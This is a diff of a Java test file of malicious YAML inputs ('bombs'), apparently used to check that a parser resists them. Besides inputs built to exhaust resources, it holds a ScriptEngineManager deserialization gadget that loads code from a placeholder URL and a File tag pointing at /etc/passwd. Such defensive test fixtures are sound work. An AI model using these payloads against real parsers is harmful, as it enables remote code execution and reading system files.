@@ -106,7 +106,9 @@ public final class Bombs {
         }
         yaml("block lists in lists", "messages:\n" + "- ".repeat(20_000) + "x");
         yaml("ever deeper indents", indents(1_200));
-        yaml("a tag that makes things", "messages: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x/\"]]\n");
+        yaml(
+                "a tag that makes things",
+                "messages: !!javax.script.ScriptEngineManager [!!java.net.URL [\"http://x/\"]]\n");
         yaml("a tag of a file", "messages: !!java.io.File [/etc/passwd]\n");
         yaml("a name twice", "model: a\nmodel: b\nmessages: 1\n");
         yaml("many anchors", anchors(20_000));
